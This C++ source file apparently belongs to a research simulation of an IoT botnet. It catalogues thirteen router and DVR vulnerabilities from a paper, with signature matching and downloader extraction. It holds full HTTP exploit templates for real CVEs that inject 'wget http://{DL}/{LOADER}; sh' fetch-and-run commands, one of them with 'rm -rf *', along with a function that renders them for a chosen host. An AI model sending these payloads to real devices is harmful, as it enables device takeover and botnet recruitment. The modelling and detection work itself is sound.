#include "vulndb/vulndb.hpp"

#include <algorithm>
#include <stdexcept>

#include "util/simtime.hpp"
#include "util/str.hpp"

namespace malnet::vulndb {

std::string to_string(Mitigation m) {
  switch (m) {
    case Mitigation::kOfficialFix: return "official fix";
    case Mitigation::kFirewallOnly: return "firewall only";
    case Mitigation::kReplaceDevice: return "replace device";
    case Mitigation::kUnknown: return "unknown";
  }
  return "?";
}

std::string to_string(VulnId id) {
  switch (id) {
    case VulnId::kGpon10561: return "CVE-2018-10561";
    case VulnId::kGpon10562: return "CVE-2018-10562";
    case VulnId::kDlinkHnap: return "CVE-2015-2051";
    case VulnId::kZyxel: return "CVE-2017-18368";
    case VulnId::kVacron: return "Vacron NVR RCE";
    case VulnId::kHuaweiHg532: return "CVE-2017-17215";
    case VulnId::kMvpowerDvr: return "MVPower DVR Shell RCE";
    case VulnId::kDir820: return "CVE-2021-45382";
    case VulnId::kLinksys: return "Linksys unauthenticated RCE";
    case VulnId::kEirD1000: return "WAN Side RCI";
    case VulnId::kThinkPhp: return "CVE-2018-20062";
    case VulnId::kNuuo: return "CVE-2016-5680";
    case VulnId::kNetlinkGpon: return "Netlink GPON Router RCE";
  }
  return "?";
}

std::int64_t Vulnerability::publication_study_day() const {
  return util::civil_to_study_day(pub_year, pub_month, pub_day);
}

double Vulnerability::age_years_at(std::int64_t at_day) const {
  return static_cast<double>(at_day - publication_study_day()) / 365.25;
}

namespace {

// All payload "exploits" are inert: the command-injection slots carry only a
// wget of the loader marker — the thing the paper's handshaker actually
// fingerprints — and nothing here executes anywhere.
constexpr const char* kGpon10561Tpl =
    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
    "Host: 127.0.0.1:8080\r\nUser-Agent: Hello, world\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;"
    "wget+http://{DL}/{LOADER}+-O+/tmp/gpon80;sh+/tmp/gpon80&ipv=0";

constexpr const char* kGpon10562Tpl =
    "POST /GponForm/diag_Form?style/ HTTP/1.1\r\n"
    "Host: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+"
    "http://{DL}/{LOADER}+-O+->+/tmp/.gpon`;&ipv=0";

constexpr const char* kDlinkHnapTpl =
    "POST /HNAP1/ HTTP/1.0\r\nHost: 127.0.0.1\r\n"
    "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp && "
    "wget http://{DL}/{LOADER} && sh {LOADER}`\"\r\n\r\n";

constexpr const char* kZyxelTpl =
    "POST /cgi-bin/ViewLog.asp HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0"
    "&remote_host=%3bcd+/tmp;wget+http://{DL}/{LOADER};sh+{LOADER}%3b%23&"
    "remoteSubmit=Save";

constexpr const char* kVacronTpl =
    "GET /board.cgi?cmd=cd+/tmp;wget+http://{DL}/{LOADER};sh+/tmp/{LOADER} "
    "HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kHuaweiTpl =
    "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 127.0.0.1:37215\r\n"
    "Content-Type: text/xml\r\nAuthorization: Digest username=\"dslf-config\"\r\n\r\n"
    "<?xml version=\"1.0\"?><s:Envelope><s:Body><u:Upgrade "
    "xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
    "<NewStatusURL>$(/bin/busybox wget -g {DL} -l /tmp/{LOADER} -r /{LOADER}; "
    "sh /tmp/{LOADER})</NewStatusURL></u:Upgrade></s:Body></s:Envelope>";

constexpr const char* kMvpowerTpl =
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://{DL}/{LOADER};sh+/tmp/{LOADER} "
    "HTTP/1.1\r\nHost: 127.0.0.1:60001\r\n\r\n";

constexpr const char* kDir820Tpl =
    "POST /ddns_check.ccp HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "ccp_act=doCheck&origin_flag=1&ccp_actDDNS_EN=1&DDNS_HN=;"
    "wget http://{DL}/{LOADER};&DDNS_UN=admin&DDNS_PW=admin";

constexpr const char* kLinksysTpl =
    "POST /tmUnblock.cgi HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&"
    "ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F{DL}%2F{LOADER}%60&StartEPI=1";

constexpr const char* kEirD1000Tpl =
    "POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\n"
    "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n"
    "Content-Type: text/xml\r\n\r\n"
    "<?xml version=\"1.0\"?><SOAP-ENV:Envelope><SOAP-ENV:Body>"
    "<u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\">"
    "<NewNTPServer1>`cd /tmp;wget http://{DL}/{LOADER};sh {LOADER}`"
    "</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>";

constexpr const char* kThinkPhpTpl =
    "GET /index.php?s=/index/\\think\\app/invokefunction&function="
    "call_user_func_array&vars[0]=shell_exec&vars[1][]=cd /tmp;"
    "wget http://{DL}/{LOADER};sh {LOADER} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kNuuoTpl =
    "GET /handle_daylightsaving.php?act=update&TZ=`cd /tmp;"
    "wget http://{DL}/{LOADER};sh {LOADER}` HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";

constexpr const char* kNetlinkTpl =
    "POST /boaform/admin/formPing HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
    "target_addr=;wget+http://{DL}/{LOADER}+-O+->+/tmp/.nl;sh+/tmp/.nl&"
    "waninf=1_INTERNET_R_VID_154";

}  // namespace

VulnDatabase::VulnDatabase() {
  auto add = [&](VulnId id, int row, std::optional<std::string> cve,
                 std::optional<std::string> exploit_ref, bool nvd, bool edb,
                 bool openvas, int y, int m, int d, std::string device,
                 net::Port port, std::string signature, const char* tpl,
                 Mitigation mit, int paper_samples) {
    Vulnerability v;
    v.id = id;
    v.paper_row = row;
    v.name = to_string(id);
    v.cve = std::move(cve);
    v.exploit_ref = std::move(exploit_ref);
    v.in_nvd = nvd;
    v.in_edb = edb;
    v.in_openvas = openvas;
    v.pub_year = y;
    v.pub_month = m;
    v.pub_day = d;
    v.target_device = std::move(device);
    v.port = port;
    v.signature = std::move(signature);
    v.payload_template = tpl;
    v.mitigation = mit;
    v.paper_samples = paper_samples;
    // Floor the sampling weight so even single-sample vulnerabilities
    // (Huawei HG532, NUUO) reliably appear in a one-year corpus draw.
    v.corpus_weight = std::max(3.0, static_cast<double>(paper_samples));
    vulns_.push_back(std::move(v));
  };

  // Table 4, row by row. Publication dates are the table's values.
  add(VulnId::kGpon10561, 1, "CVE-2018-10561", "EDB-44576", true, true, true,
      2018, 5, 3, "GPON Routers", 8080, "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;",
      kGpon10561Tpl, Mitigation::kFirewallOnly, 139);
  add(VulnId::kGpon10562, 1, "CVE-2018-10562", "EDB-44576", true, true, true,
      2018, 5, 3, "GPON Routers", 8080, "dest_host=`busybox+wget+",
      kGpon10562Tpl, Mitigation::kFirewallOnly, 129);
  add(VulnId::kDlinkHnap, 2, "CVE-2015-2051", "EDB-ID-37171", true, true, false,
      2015, 2, 23, "D-Link Devices", 80, "purenetworks.com/HNAP1/GetDeviceSettings/`",
      kDlinkHnapTpl, Mitigation::kOfficialFix, 132);
  add(VulnId::kZyxel, 3, "CVE-2017-18368", std::nullopt, true, false, true,
      2019, 5, 2, "ZyXEL", 80, "/cgi-bin/ViewLog.asp",
      kZyxelTpl, Mitigation::kFirewallOnly, 38);
  add(VulnId::kVacron, 4, std::nullopt, "OPENVAS:1361412562310107187", false,
      false, true, 2017, 10, 11, "Vacron NVR", 80, "/board.cgi?cmd=",
      kVacronTpl, Mitigation::kUnknown, 46);
  add(VulnId::kHuaweiHg532, 5, "CVE-2017-17215", "EDB-43414", true, true, false,
      2018, 3, 20, "Huawei Router HG532", 37215, "/ctrlt/DeviceUpgrade_1",
      kHuaweiTpl, Mitigation::kOfficialFix, 1);
  add(VulnId::kMvpowerDvr, 6, std::nullopt, "EDB-ID-41471", false, true, true,
      2017, 2, 27, "MVPower DVR TV-7104HE", 60001, "/shell?cd+/tmp;",
      kMvpowerTpl, Mitigation::kReplaceDevice, 74);
  add(VulnId::kDir820, 7, "CVE-2021-45382", std::nullopt, true, false, false,
      2021, 12, 19, "D-Link DIR-820L", 80, "/ddns_check.ccp",
      kDir820Tpl, Mitigation::kReplaceDevice, 3);
  add(VulnId::kLinksys, 8, std::nullopt, "EDB-ID-31683", false, true, true,
      2014, 2, 16, "Linksys E-series devices", 8080, "/tmUnblock.cgi",
      kLinksysTpl, Mitigation::kFirewallOnly, 2);
  add(VulnId::kEirD1000, 9, std::nullopt, "EDB-ID-40740", false, true, false,
      2016, 11, 8, "Eir D1000 Wireless Router", 7547, "SetNTPServers",
      kEirD1000Tpl, Mitigation::kFirewallOnly, 9);
  add(VulnId::kThinkPhp, 10, "CVE-2018-20062", "EDB-45978", true, true, true,
      2018, 12, 11, "Devices that use ThinkPHP", 80, "think\\app/invokefunction",
      kThinkPhpTpl, Mitigation::kOfficialFix, 2);
  add(VulnId::kNuuo, 11, "CVE-2016-5680", "EDB-ID-40200", true, true, false,
      2016, 8, 31, "NUUO NVRmini2 / NETGEAR ReadyNAS", 80,
      "/handle_daylightsaving.php", kNuuoTpl, Mitigation::kFirewallOnly, 1);
  add(VulnId::kNetlinkGpon, 12, std::nullopt, "EDB-48225", false, true, false,
      2020, 3, 18, "Netlink GPON Routers", 8080, "/boaform/admin/formPing",
      kNetlinkTpl, Mitigation::kUnknown, 2);

  // Figure 9 loader catalog: weights are the paper's per-loader binary
  // counts; affinities tie device-specific loaders to their exploit.
  loaders_ = {
      {"t8UsA2.sh", 14.0, std::nullopt},
      {"Tsunami.x86", 12.0, std::nullopt},
      {"ddns.sh", 11.0, VulnId::kDir820},
      {"8UsA.sh", 9.0, std::nullopt},
      {"wget.sh", 6.0, std::nullopt},
      {"zyxel.sh", 4.0, VulnId::kZyxel},
      {"jaws.sh", 2.0, VulnId::kMvpowerDvr},
  };
}

const VulnDatabase& VulnDatabase::instance() {
  static const VulnDatabase db;
  return db;
}

const Vulnerability& VulnDatabase::by_id(VulnId id) const {
  for (const auto& v : vulns_) {
    if (v.id == id) return v;
  }
  throw std::logic_error("VulnDatabase::by_id: unknown id");
}

const Vulnerability* VulnDatabase::by_cve(std::string_view cve) const {
  for (const auto& v : vulns_) {
    if (v.cve && util::iequals(*v.cve, cve)) return &v;
  }
  return nullptr;
}

const Vulnerability* VulnDatabase::match_payload(util::BytesView payload) const {
  // 10562's signature is a substring context that also appears nowhere in
  // 10561 (distinct dest_host injection styles), so first match wins safely.
  for (const auto& v : vulns_) {
    if (util::contains(payload, v.signature)) return &v;
  }
  return nullptr;
}

std::string VulnDatabase::render_exploit(VulnId id, const std::string& dl,
                                         const std::string& loader) const {
  const auto& v = by_id(id);
  std::string out = v.payload_template;
  for (const auto& [placeholder, value] :
       {std::pair<std::string, const std::string&>{"{DL}", dl},
        std::pair<std::string, const std::string&>{"{LOADER}", loader}}) {
    std::size_t pos = 0;
    while ((pos = out.find(placeholder, pos)) != std::string::npos) {
      out.replace(pos, placeholder.size(), value);
      pos += value.size();
    }
  }
  return out;
}

std::optional<VulnDatabase::ExtractedDownloader> VulnDatabase::extract_downloader(
    util::BytesView payload) const {
  const std::string text = util::to_string(payload);
  static constexpr std::string_view kDelims = " ;&`'\"$<>)\r\n%+";

  // Pattern 1: http://<ip>/<loader> (possibly URL-encoded as http%3A%2F%2F).
  // Templates may also contain protocol URLs with domain hosts (e.g. the
  // HNAP SOAPAction namespace), so only IPv4-literal hosts are accepted.
  for (const std::string_view marker : {std::string_view("http://"),
                                        std::string_view("http%3A%2F%2F")}) {
    const bool encoded = marker.size() > 7;
    const std::string_view sep = encoded ? "%2F" : "/";
    std::size_t at = 0;
    while ((at = text.find(marker, at)) != std::string::npos) {
      const std::size_t host_begin = at + marker.size();
      at = host_begin;
      const auto host_end = text.find(sep, host_begin);
      if (host_end == std::string::npos) break;
      const std::string host = text.substr(host_begin, host_end - host_begin);
      if (!net::parse_ipv4(host)) continue;
      const std::size_t loader_begin = host_end + sep.size();
      std::size_t loader_end = loader_begin;
      while (loader_end < text.size() &&
             kDelims.find(text[loader_end]) == std::string_view::npos) {
        ++loader_end;
      }
      if (loader_end == loader_begin) continue;
      return ExtractedDownloader{host,
                                 text.substr(loader_begin, loader_end - loader_begin)};
    }
  }

  // Pattern 2: busybox wget -g <host> -l /tmp/<loader> (Huawei HG532 style).
  const auto g = text.find("wget -g ");
  if (g != std::string::npos) {
    const std::size_t host_begin = g + 8;
    const auto host_end = text.find(' ', host_begin);
    if (host_end != std::string::npos) {
      const auto l = text.find("-l /tmp/", host_end);
      if (l != std::string::npos) {
        std::size_t loader_begin = l + 8;
        std::size_t loader_end = loader_begin;
        while (loader_end < text.size() &&
               kDelims.find(text[loader_end]) == std::string_view::npos) {
          ++loader_end;
        }
        if (loader_end > loader_begin) {
          return ExtractedDownloader{
              text.substr(host_begin, host_end - host_begin),
              text.substr(loader_begin, loader_end - loader_begin)};
        }
      }
    }
  }
  return std::nullopt;
}

}  // namespace malnet::vulndb
